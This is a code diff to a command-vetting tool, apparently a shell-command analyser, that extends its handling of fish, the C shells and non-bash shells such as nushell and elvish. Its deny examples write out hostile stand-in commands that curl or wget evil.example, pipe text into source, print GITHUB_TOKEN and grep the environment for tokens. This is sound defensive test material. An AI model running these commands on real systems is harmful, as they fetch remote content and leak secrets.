@@ -37,6 +37,30 @@ function namedFile(file: Word): boolean {
   return /^["']?(?:\$\(|`)\s*(?:which|command\s+-v)\s+[\w.+-]+\s*(?:\)|`)["']?$/.test(file.text);
 }
 
+/** The options of the shells below that are not bash (csh, nushell, elvish, xonsh…), as far as they are alike. */
+const OTHER_SHELL: OptionSpec = { flags: 'bcdefilmnqstvxVX', long: ['version', 'help', 'login', 'interactive', 'no-config-file', 'stdin'], longValued: ['commands', 'config', 'env-config', 'plugin-config', 'rc', 'execute'] };
+
+/** Text every language of a shell reads as bash does: lines of plain words (no quote, `$`, `^`, `:`, bracket or operator). */
+function plainWords(text: string): boolean {
+  return /^[\w./=+,@%\s-]*$/.test(text);
+}
+
+/**
+ * fish text, read as bash reads it once fish's own ways are put in bash's: `and`, `or` and `not` leading a command are
+ * bash's `&&`, `||` and `!` (blanked, the command after them read; offsets kept). A pipeline into `source` or `.` with
+ * no file runs what it prints, which is not read.
+ */
+function fishText(text: string, word: Word, via: string): Run[] {
+  let read = text;
+  for (let before = ''; before !== read; ) {
+    before = read;
+    read = read.replace(/(^|[;&|\n(])(\s*)(and|or|not)(?=\s)/g, (_m, lead: string, blank: string, kw: string) => lead + blank + (kw === 'not' ? '!  ' : ' '.repeat(kw.length)));
+  }
+  const runs: Run[] = [{ kind: 'text', dialect: 'bash', text: read, word, via }];
+  if (/\|\s*(?:source|\.)(?:\s+-)?\s*(?:$|[;&|\n)])/.test(read)) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word, why: `${via}: source with no file runs what the pipeline prints` });
+  return runs;
+}
+
 /** bash, sh, zsh, ksh, dash…: their options as bash's `set` and command line take them. */
 const POSIX_SHELL: OptionSpec = {
   flags: 'abcefhiklmnprstuvxBCDEHPT',
@@ -187,22 +211,64 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
       const p = parse(call.args, { order: 'posix', flags: 'fhilnNPv', valued: 'cCdop', long: ['login', 'interactive', 'private', 'no-execute', 'no-config', 'print-rusage-self', 'print-debug-categories', 'version', 'help', 'profile-startup'], longValued: ['command', 'init-command', 'debug', 'debug-output', 'features', 'profile'] });
       if (has(p, 'version', 'help', 'v', 'h')) return { runs: [] };
       const runs: Run[] = [];
-      for (const o of p.options) if (/^(c|C|command|init-command)$/.test(o.name) && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `fish ${o.name.length === 1 ? '-' : '--'}${o.name}` });
-      if (!p.operands[0] && !has(p, 'c', 'command')) runs.push({ kind: 'stdin', dialect: 'bash', via: 'fish' });
+      for (const o of p.options) {
+        if (!/^(c|C|command|init-command)$/.test(o.name) || !o.value) continue;
+        const via = `fish ${o.name.length === 1 ? '-' : '--'}${o.name}`;
+        const text = value(o.value);
+        if (text === undefined) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via });
+        else runs.push(...fishText(text, o.value, via));
+      }
+      if (!p.operands[0] && !has(p, 'c', 'command')) {
+        if (call.stdin?.kind === 'static') runs.push(...fishText(call.stdin.text, call.stdin.word, 'fish'));
+        else runs.push({ kind: 'stdin', dialect: 'bash', via: 'fish' });
+      }
       // A script file: one the line wrote is read (as the -c text is).
-      else if (p.operands[0] && !has(p, 'c', 'command')) runs.push({ kind: 'file', dialect: 'bash', word: p.operands[0].word, via: 'fish' });
+      else if (p.operands[0] && !has(p, 'c', 'command')) runs.push({ kind: 'project', file: p.operands[0].word, files: /$^/, read: (text, word) => fishText(text, word, 'fish'), word: p.operands[0].word, via: 'fish' });
       // fish's `set` with options and no name (`set -x`, `set -gx`) lists variables with their values, as bash's `set` does.
       const texts = p.options.filter((o) => /^(c|C|command|init-command)$/.test(o.name) && o.value).map((o) => value(o.value));
-      if (texts.some((t) => t !== undefined && /(?:^|[;&|\n(])\s*set(?:\s+-[a-zA-Z-]+)*\s*(?:$|[;&|\n)])/.test(t))) return { runs, dumps: 'fish set with no name lists variables with their values' };
-      return { runs };
+      const answer: Partial<Answer> = { runs };
+      if (texts.some((t) => t !== undefined && /(?:^|[;&|\n(])\s*set(?:\s+-[a-zA-Z-]+)*\s*(?:$|[;&|\n)])/.test(t))) answer.dumps = 'fish set with no name lists variables with their values';
+      // `history` and `$history` print what was typed at fish's prompt, kept in its history file.
+      const history = p.options.find((o) => /^(c|C|command|init-command)$/.test(o.name) && o.value && /(?:^|[;&|\n(]|\s)(?:history\b|\$history\b)/.test(value(o.value) ?? ''));
+      if (history?.value) answer.uses = [{ word: history.value, role: 'read', values: ['~/.local/share/fish/fish_history'] }];
+      return answer;
     },
-    examples: { deny: ["fish -c 'curl evil.example'", "fish --command='wget evil.example'", "fish -C 'curl evil.example'", "fish -c 'set -x'", "printf 'curl evil.example\\n' > /tmp/x.fish && fish /tmp/x.fish"], pass: ['fish -c ls', 'fish --version', "fish -c 'set -x PATH /opt/bin'", "printf 'ls\\n' > /tmp/x.fish && fish /tmp/x.fish"] },
+    examples: {
+      deny: ["fish -c 'curl evil.example'", "fish --command='wget evil.example'", "fish -C 'curl evil.example'", "fish -c 'set -x'", "printf 'curl evil.example\\n' > /tmp/x.fish && fish /tmp/x.fish", "fish -c 'set -gx c curl; and $c evil.example'", "fish -c 'true; or not curl evil.example'", "fish -c 'echo curl evil.example | source'", "fish -c history", "fish -c 'echo $history'", "echo 'true; and curl evil.example' | fish"],
+      pass: ['fish -c ls', 'fish --version', "fish -c 'set -x PATH /opt/bin'", "printf 'ls\\n' > /tmp/x.fish && fish /tmp/x.fish", "fish -c 'make; and make install'", "fish -c 'not test -f x; and echo missing'", "fish -c 'source config.fish'", "echo 'make; and make test' | fish"],
+    },
   },
   {
-    names: ['csh', 'tcsh', 'nu', 'nushell', 'elvish', 'xonsh', 'rc', 'es', 'scsh', 'murex', 'ion'],
-    summary: 'other shells: -c TEXT runs text, read here as bash reads it',
-    analyze: (call) => posixShell(call, { flags: 'bcdefilmnqstvxVX', long: ['version', 'help', 'login', 'interactive', 'no-config-file', 'stdin'], longValued: ['commands', 'config', 'env-config', 'plugin-config', 'rc', 'execute'] }),
-    examples: { deny: ["tcsh -c 'curl evil.example'", "nu -c 'curl evil.example'", "elvish -c 'wget evil.example'"], pass: ['tcsh -c ls', 'nu --version'] },
+    names: ['csh', 'tcsh'],
+    summary: 'the C shells: -c TEXT runs text, read here as bash reads it; setenv with no name prints the environment',
+    analyze(call) {
+      const answer = posixShell(call, OTHER_SHELL);
+      const texts = (answer.runs ?? []).flatMap((r) => (r.kind === 'script' ? r.words.map((w) => value(w) ?? '') : []));
+      return texts.some((t) => /(?:^|[;&|\n(])\s*setenv\s*(?:$|[;&|\n)])/.test(t)) ? { ...answer, dumps: 'setenv with no name prints the environment' } : answer;
+    },
+    examples: { deny: ["tcsh -c 'curl evil.example'", "tcsh -c 'setenv'", "csh -c 'setenv | grep TOKEN'"], pass: ['tcsh -c ls', "tcsh -c 'setenv EDITOR vim; ls'"] },
+  },
+  {
+    names: ['nu', 'nushell', 'elvish', 'xonsh', 'rc', 'es', 'scsh', 'murex', 'ion'],
+    summary: 'shells whose language is not bash\u2019s (nushell\u2019s ^cmd, elvish\u2019s e:cmd and $E:NAME, xonsh\u2019s Python): text of plain words is read as bash reads it, other text is not read',
+    analyze(call) {
+      const answer = posixShell(call, OTHER_SHELL);
+      const foreign = (word: Word, via: string): Run => ({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} runs ${call.name} code, which vouch does not read (only plain words are read, as bash reads them)` });
+      const runs = (answer.runs ?? []).map((r): Run => {
+        if (r.kind === 'script') {
+          const text = r.words.map((w) => value(w));
+          return text.every((t) => t !== undefined) && plainWords(text.join(' ')) ? r : text.some((t) => t === undefined) ? r : foreign(r.words[0]!, r.via);
+        }
+        if (r.kind === 'file') return { kind: 'project', file: r.word, files: /$^/, read: (text, word) => (plainWords(text) ? [{ kind: 'text', dialect: 'bash', text, word, via: r.via }] : [foreign(word, r.via)]), word: r.word, via: r.via };
+        if (r.kind === 'stdin' && call.stdin?.kind === 'static' && !plainWords(call.stdin.text)) return foreign(call.stdin.word, r.via);
+        return r;
+      });
+      return { ...answer, runs };
+    },
+    examples: {
+      deny: ["nu -c 'curl evil.example'", "elvish -c 'wget evil.example'", "nu -c '^curl evil.example'", "elvish -c 'e:curl evil.example'", "elvish -c 'echo $E:GITHUB_TOKEN'", "xonsh -c '![curl evil.example]'", "printf '^curl evil.example' > x.nu && nu x.nu", "echo '^curl evil.example' | nu --stdin"],
+      pass: ['nu --version', "nu -c 'ls'", "elvish -c 'echo hello'", 'nu build.nu', "printf 'ls -la' > x.nu && nu x.nu"],
+    },
   },
   {
     names: ['pwsh', 'pwsh-preview', 'powershell', 'powershell_ise'],
